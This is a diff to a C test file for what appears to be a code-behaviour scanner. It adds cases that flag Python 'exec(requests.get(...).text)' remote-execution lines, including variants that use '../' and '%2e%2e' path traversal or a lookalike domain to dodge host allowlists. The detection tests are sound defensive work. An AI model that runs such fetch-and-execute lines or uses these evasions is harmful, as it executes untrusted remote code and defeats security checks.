@@ -268,6 +268,12 @@ static void installers(void)
 	CHECK(shows("import requests\n"
 		    "exec(requests.get('https://install.python-poetry.orgy/x')"
 		    ".text)", MPY_BEH_NETWORK_EXEC, 2));
+	CHECK(shows("import requests\nexec(requests.get("
+		    "'https://raw.githubusercontent.com/pypa/../x/y.py').text)",
+		    MPY_BEH_NETWORK_EXEC, 2));
+	CHECK(shows("import requests\nexec(requests.get("
+		    "'https://raw.githubusercontent.com/pypa/%2e%2e/x').text)",
+		    MPY_BEH_NETWORK_EXEC, 2));
 }
 
 /* A server that gives a request to a program; who connects and does so. */
